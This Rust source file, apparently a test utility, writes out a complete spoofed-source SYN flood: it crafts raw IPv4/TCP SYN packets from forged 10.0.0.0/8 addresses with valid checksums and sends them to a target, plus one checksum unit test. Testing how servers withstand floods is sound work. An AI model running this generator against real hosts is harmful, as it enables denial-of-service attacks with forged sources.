//! SYNs from addresses that nobody has.

use std::net::{Ipv4Addr, SocketAddrV4};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Sends `count` SYNs to `to`, each from another address in 10.0.0.0/8. The namespace must swallow the answers.
///
/// # Panics
/// When raw sockets are not allowed, or sending fails.
pub fn syn_flood(to: SocketAddrV4, count: u32) {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW))).expect("a raw socket");
    let destination = SockAddr::from(to);
    for number in 0..count {
        let [_, high, middle, low] = number.to_be_bytes();
        let from = SocketAddrV4::new(
            Ipv4Addr::new(10, high, middle, low),
            1024 + u16::try_from(number % 60_000).expect("below 60,000"),
        );
        raw.send_to(&syn(from, to, number), &destination).expect("send a SYN");
    }
}

/// An IPv4 packet with a TCP SYN. The kernel fills in the IP header's length and checksum.
fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let tcp = &mut packet[20..];
    tcp[0..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
    let sum = checksum(from, to, tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// RFC 9293, 3.1: over the pseudo header and the segment.
fn checksum(from: SocketAddrV4, to: SocketAddrV4, segment: &[u8]) -> u16 {
    let mut pseudo = Vec::with_capacity(32);
    pseudo.extend_from_slice(&from.ip().octets());
    pseudo.extend_from_slice(&to.ip().octets());
    pseudo.extend_from_slice(&[0, 6, 0, 20]);
    pseudo.extend_from_slice(segment);
    let mut sum: u32 = pseudo
        .chunks(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).expect("folded to 16 bits")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_with_its_checksum_sums_to_nothing() {
        let (from, to) = (
            SocketAddrV4::new(Ipv4Addr::new(10, 1, 2, 3), 4000),
            SocketAddrV4::new(Ipv4Addr::LOCALHOST, 8080),
        );
        let packet = syn(from, to, 7);
        assert_eq!(checksum(from, to, &packet[20..]), 0);
    }
}
